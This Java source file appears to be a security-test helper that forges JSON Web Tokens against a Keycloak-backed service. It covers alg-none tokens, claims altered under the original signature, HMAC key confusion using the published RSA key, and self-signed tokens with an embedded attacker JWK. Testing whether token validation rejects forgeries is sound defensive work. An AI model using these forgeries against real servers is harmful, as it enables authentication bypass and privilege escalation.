package cn.beijing.iip.registry.system.attacks;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PublicKey;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * Tokens an attacker can make from a real one without Keycloak's private key: the classic JWT attacks
 * (no algorithm, HMAC keyed with the published RSA key, claims changed under the old signature, a key
 * of their own announced in the header).
 */
public final class ForgedTokens {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Base64.Encoder B64 = Base64.getUrlEncoder().withoutPadding();
    private static final Base64.Decoder DECODE = Base64.getUrlDecoder();

    private final KeyPair own;

    public ForgedTokens() {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(2048);
            own = generator.generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    public static ObjectNode header(String token) {
        return (ObjectNode) JSON.readTree(DECODE.decode(token.split("\\.")[0]));
    }

    public static ObjectNode claims(String token) {
        return (ObjectNode) JSON.readTree(DECODE.decode(token.split("\\.")[1]));
    }

    /** The same claims under {@code "alg":"none"} (spelt as given), with an empty signature or none at all. */
    public static String algNone(String token, String spelling, boolean trailingDot) {
        ObjectNode header = JSON.createObjectNode().put("alg", spelling).put("typ", "JWT");
        return encode(header) + "." + encode(claims(token)) + (trailingDot ? "." : "");
    }

    /** Changed claims under the token's original signature. */
    public static String withClaims(String token, Consumer<ObjectNode> change) {
        ObjectNode claims = claims(token);
        change.accept(claims);
        String[] parts = token.split("\\.");
        return parts[0] + "." + encode(claims) + "." + parts[2];
    }

    /** The claims signed with HS256, keyed with {@code key}: what a server that trusts the header's alg accepts. */
    public static String hmac(String token, byte[] key, Consumer<ObjectNode> change) {
        ObjectNode header = header(token).put("alg", "HS256");
        ObjectNode claims = claims(token);
        change.accept(claims);
        String signingInput = encode(header) + "." + encode(claims);
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(key, "HmacSHA256"));
            return signingInput + "." + B64.encodeToString(mac.doFinal(signingInput.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The claims signed with RS256 by a key of the attacker's own, with header members of their choosing. */
    public String selfSigned(String token, Consumer<ObjectNode> header, Consumer<ObjectNode> change) {
        ObjectNode head = header(token).put("alg", "RS256");
        header.accept(head);
        ObjectNode claims = claims(token);
        change.accept(claims);
        String signingInput = encode(head) + "." + encode(claims);
        try {
            Signature signature = Signature.getInstance("SHA256withRSA");
            signature.initSign(own.getPrivate());
            signature.update(signingInput.getBytes(StandardCharsets.US_ASCII));
            return signingInput + "." + B64.encodeToString(signature.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The attacker's own public key as a JWK, to embed in a token's {@code jwk} header. */
    public ObjectNode ownJwk() {
        RSAPublicKey key = (RSAPublicKey) own.getPublic();
        return JSON.createObjectNode().put("kty", "RSA").put("e", unsigned(key.getPublicExponent()))
                .put("n", unsigned(key.getModulus()));
    }

    /** The realm's RSA signing key from its published JWK set: what an attacker tries as an HMAC key. */
    public static PublicKey rsaKey(JsonNode jwks) {
        for (JsonNode key : jwks.path("keys")) {
            if ("RSA".equals(key.path("kty").asString("")) && "sig".equals(key.path("use").asString("sig"))) {
                try {
                    return KeyFactory.getInstance("RSA").generatePublic(new RSAPublicKeySpec(
                            new BigInteger(1, DECODE.decode(key.get("n").asString())),
                            new BigInteger(1, DECODE.decode(key.get("e").asString()))));
                } catch (GeneralSecurityException e) {
                    throw new IllegalStateException(e);
                }
            }
        }
        throw new IllegalArgumentException("no RSA signing key in " + jwks);
    }

    /** The key as PEM text, the form key-confusion attacks most often use as the HMAC secret. */
    public static String pem(PublicKey key) {
        return "-----BEGIN PUBLIC KEY-----\n" + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                .encodeToString(key.getEncoded()) + "\n-----END PUBLIC KEY-----\n";
    }

    private static String encode(JsonNode node) {
        return B64.encodeToString(JSON.writeValueAsBytes(node));
    }

    private static String unsigned(BigInteger value) {
        byte[] bytes = value.toByteArray();
        if (bytes.length > 1 && bytes[0] == 0) {
            bytes = java.util.Arrays.copyOfRange(bytes, 1, bytes.length);
        }
        return B64.encodeToString(bytes);
    }
}
